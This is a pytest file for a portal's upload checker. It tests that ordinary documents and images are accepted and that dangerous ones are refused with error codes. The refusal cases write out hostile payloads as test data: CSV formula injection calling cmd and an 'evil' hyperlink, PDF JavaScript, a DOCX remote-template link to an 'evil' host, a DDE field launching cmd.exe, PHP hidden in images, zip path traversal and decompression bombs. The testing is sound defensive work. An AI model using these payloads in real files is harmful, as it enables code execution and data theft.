"""Files that people add: what is taken, and what runs, bursts or pretends."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import pytest

JPEG = b"\xff\xd8\xff\xe0\0\4JF\xff\xc0\0\4ab\xff\xda\0\2 picture \xff\xd9 and what a phone adds"


def chunk(name, held=b""):
    return struct.pack(">I", len(held)) + name + held + struct.pack(">I", zlib.crc32(name + held))


PNG = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", b"0" * 13) + chunk(b"IDAT", b"picture") + chunk(b"IEND")


def packed(objects, cut=0):
    """A PDF with an object stream, as most writers of PDF make it, and another stream after it."""
    held = zlib.compress(objects)
    head = b"%PDF-1.7 1 0 obj<</Type/#4fbjStm/Filter/FlateDecode>>stream\r\n"
    return head + held[: len(held) - cut] + b"\nendstream\nendobj\n2 0 obj<</Length 3>>stream\nabc\nendstream\nendobj\n"


def zipped(**files):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name.replace("__", "/"), content)
    return out.getvalue()


TEMPLATE = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
EXTERNAL = b'<Relationship Id="r" Type="' + TEMPLATE + b'" Target="https://evil/t.dotm" TargetMode="External"/>'
DDE = b"<w:instrText>DDE</w:instrText><w:r/><w:instrText>AUTO c:\\cmd.exe</w:instrText>"


@pytest.mark.parametrize(
    ("name", "content", "kind"),
    [
        ("a.pdf", b"%PDF-1.7 text", "application/pdf"),
        ("a.JPG", JPEG, "image/jpeg"),
        ("a.png", PNG, "image/png"),
        ("a.pdf", packed(b"<</Type/Page/A<</S/URI/URI(https://x)>>>>"), "application/pdf"),
        ("a.txt", "نص".encode(), "text/plain"),
        ("b.csv", b"jour;absences\n1;-3,5\n2;+212 600 00\n", "text/csv"),
        ("a.csv", b"day,absences\n1,-3\n", "text/csv"),
        (
            "a.docx",
            zipped(word__document_xml=b"<w/>"),
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        ),
    ],
)
def test_papers_that_people_have_are_taken(name, content, kind):
    from jazari.hub.objections.papers import check

    assert check(name, content) == kind


@pytest.mark.parametrize(
    ("name", "content", "code"),
    [
        ("a.exe", b"MZ", "JZ-854"),
        ("a.pdf", b"MZ not a pdf", "JZ-854"),
        ("a.html", b"<script>", "JZ-854"),
        ("a.svg", b"<svg/>", "JZ-854"),
        ("a.txt", b"\xff\xfe\x00a", "JZ-854"),
        ("a", b"%PDF-1.7", "JZ-854"),
        ("a.pdf", b"", "JZ-855"),
        ("a.pdf", b"%PDF-" + b"a" * (5 << 20), "JZ-855"),
        ("a.docx", b"PK\x03\x04 broken", "JZ-856"),
        ("a.docx", zipped(word__document_xml=b"0" * (60 << 20)), "JZ-856"),
        ("a.odt", zipped(content_xml=b"0" * (4 << 20)), "JZ-856"),
        ("a.docx", zipped(word__vbaProject_bin=b"x", **{"word__vbaProject.bin": b"x"}), "JZ-857"),
        ("a.docx", zipped(**{"word__embeddings__a.docx": b"x"}), "JZ-857"),
        ("a.pdf", b"%PDF-1.7 /JavaScript (app.alert(1))", "JZ-857"),
        ("a.csv", b"name\n=cmd|' /C calc'!A0\n", "JZ-857"),
        ("a.csv", b"name\n  @SUM(1)\n", "JZ-857"),
        ("a.csv", b'a;b\n1;=HYPERLINK("http://evil")\n', "JZ-857"),
        ("a.csv", b"a\tb\n1\t=HYPERLINK(1)\n", "JZ-857"),
        ("a.csv", b"a\n-2+3+cmd|' /C calc'!A0\n", "JZ-857"),
        ("a.csv", b"a\n+1+HYPERLINK(1)\n", "JZ-857"),
        ("a.pdf", b"%PDF-1.7 <</OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>>>", "JZ-857"),
        ("a.pdf", packed(b"<</S/JavaScript/JS(app.alert(1))>>"), "JZ-857"),
        ("a.pdf", packed(b"<</S/SubmitForm>>"), "JZ-857"),
        ("a.pdf", b"%PDF-1.7 <</AA<</O<</S/URI/URI(http://evil)>>>>>>", "JZ-857"),
        ("a.pdf", packed(b"x" * (60 << 20)), "JZ-856"),
        ("a.pdf", packed(b"<<>>", cut=6), "JZ-856"),
        ("a.pdf", b"%PDF-1.7 1 0 obj<</Type/ObjStm/Filter/LZWDecode>>stream\nendstream", "JZ-856"),
        ("a.pdf", b"%PDF-1.7 trailer<</Encrypt 3 0 R>>", "JZ-856"),
        ("a.jpg", b"\xff\xd8\xff<?php system(1); ?>", "JZ-854"),
        ("a.png", PNG + b"<?php system(1); ?>", "JZ-854"),
        ("a.png", b"\x89PNG\r\n\x1a\n" + bytes(99), "JZ-854"),
        ("a.heic", b"\0\0\0\x18ftypheic", "JZ-859"),
        ("a.jpg", b"RIFF1234WEBPVP8 ", "JZ-859"),
        ("a.docx", zipped(**{"../../etc/passwd": b"x"}), "JZ-856"),
        ("a.docx", zipped(word___rels__settings_rels=b"x", **{"word/_rels/settings.xml.rels": EXTERNAL}), "JZ-857"),
        ("a.docx", zipped(**{"word/document.xml": DDE}), "JZ-857"),
        ("a.odt", zipped(**{"content.xml": b"<text:dde-connection-decl/>"}), "JZ-857"),
    ],
)
def test_what_runs_bursts_or_pretends_is_refused(name, content, code):
    from jazari.core.errors import PortalError
    from jazari.hub.objections.papers import check

    with pytest.raises(PortalError, match=code):
        check(name, content)
